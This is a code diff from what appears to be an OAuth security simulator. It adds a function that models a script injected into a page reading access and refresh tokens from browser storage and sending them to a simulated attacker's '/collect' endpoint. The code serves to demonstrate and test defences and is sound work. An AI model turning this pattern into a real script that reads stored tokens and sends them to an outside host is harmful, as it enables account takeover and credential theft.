@@ -176,6 +176,45 @@ pub(in crate::sim) fn attacker_url(path: &str) -> Url {
     }
 }
 
+/// The victim signs in, and the app keeps its refresh token (and, if
+/// `access_too`, its access token) in the browser's storage, where a script
+/// injected into the page reads them and sends them to the attacker's site.
+/// The refresh token the attacker now holds.
+pub(super) fn script_steals_tokens(
+    scenario: &Scenario,
+    network: &mut Network<'_>,
+    browser: &mut Browser,
+    client: &mut Client,
+    access_too: bool,
+    explanation: &str,
+    rfc_refs: &[RfcRef],
+) -> Result<String, Outcome> {
+    victim_completes_sign_in(scenario, network, browser, client)?;
+    let origin = scenario.client.origin();
+    if let Some(tokens) = &client.tokens {
+        if access_too {
+            browser.store(&origin, "access_token", tokens.access_token.secret());
+        }
+        if let Some(refresh) = &tokens.refresh_token {
+            browser.store(&origin, "refresh_token", refresh.secret());
+        }
+    }
+    let read: Vec<(&str, &str)> = ["access_token", "refresh_token"]
+        .into_iter()
+        .filter_map(|name| Some((name, browser.stored(&origin, name)?)))
+        .collect();
+    let url = Url {
+        query: Some(crate::form::encode_form(&read)),
+        ..attacker_url("/collect")
+    };
+    let request = browser.subresource_request(url);
+    from_browser(network, browser, request, false, explanation, rfc_refs);
+    network
+        .attacker
+        .captured("refresh_token")
+        .ok_or_else(|| stopped_here(network))
+}
+
 /// The value of `name` in a URL's query.
 pub(in crate::sim) fn query_param(url: &Url, name: &str) -> Option<String> {
     url.query_pairs()
